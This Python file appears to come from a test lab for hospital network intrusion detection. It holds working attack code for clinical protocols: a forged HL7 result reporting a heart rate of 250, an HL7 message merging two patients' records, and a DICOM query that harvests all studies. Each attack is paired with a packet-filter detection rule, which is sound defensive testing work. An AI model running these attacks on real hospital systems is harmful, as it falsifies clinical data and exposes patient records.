"""Attacks in hospitals: HL7 version 2 over MLLP, and DICOM."""

from __future__ import annotations

from tests.lab.attacks import wire
from tests.lab.attacks.attack import Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"


def _result(aim: Aim) -> None:
    facility = aim.service.settings["facility"]
    text = (
        f"MSH|^~\\&|{aim.source.id}|WARD|HIS|{facility}|20260101000000||ORU^R01^ORU_R01|9|P|2.5.1\r"
        f"PID|1||T0001^^^{facility}^MR||TEST^PATIENT||19700101|F\r"
        "OBR|1|||VITALS\rOBX|1|NM|8867-4^HR^LN||250|/min|60-100|H|||F\r"
    )
    wire.tcp(aim, b"\x0b" + text.encode() + b"\x1c\r")


def _merge(aim: Aim) -> None:
    facility = aim.service.settings["facility"]
    text = (
        f"MSH|^~\\&|{aim.source.id}|WARD|HIS|{facility}|20260101000000||ADT^A40^ADT_A39|9|P|2.5.1\r"
        f"PID|1||T0001^^^{facility}^MR||TEST^PATIENT\rMRG|T0002^^^{facility}^MR\r"
    )
    wire.tcp(aim, b"\x0b" + text.encode() + b"\x1c\r")


def _harvest(aim: Aim) -> None:
    from pydicom.dataset import Dataset
    from pynetdicom import AE
    from pynetdicom.sop_class import StudyRootQueryRetrieveInformationModelFind as Find

    entity = AE(ae_title="HARVEST")
    entity.add_requested_context(Find)
    title = str(aim.service.settings["title"])
    association = entity.associate(aim.address, aim.service.port, ae_title=title)
    asked = Dataset()
    asked.QueryRetrieveLevel, asked.PatientName, asked.PatientID = "STUDY", "*", ""
    list(association.send_c_find(asked, Find))
    association.release()


ATTACKS = (
    Attack(
        "hl7 false result",
        "Reports a heart rate of 250",
        "hl7",
        ("T0856",),
        "value",
        'hl7 && frame contains "||250|"' + _FROM,
        _result,
    ),
    Attack(
        "hl7 patients merged",
        "Merges two patients' records",
        "hl7",
        ("T0836",),
        "new operation",
        'hl7 && frame contains "ADT^A40"' + _FROM,
        _merge,
    ),
    Attack(
        "dicom patients harvested",
        "Asks for all studies as an entity that nobody knows",
        "dicom",
        ("T0882",),
        "new operation",
        'dicom && frame contains "HARVEST"' + _FROM,
        _harvest,
    ),
)
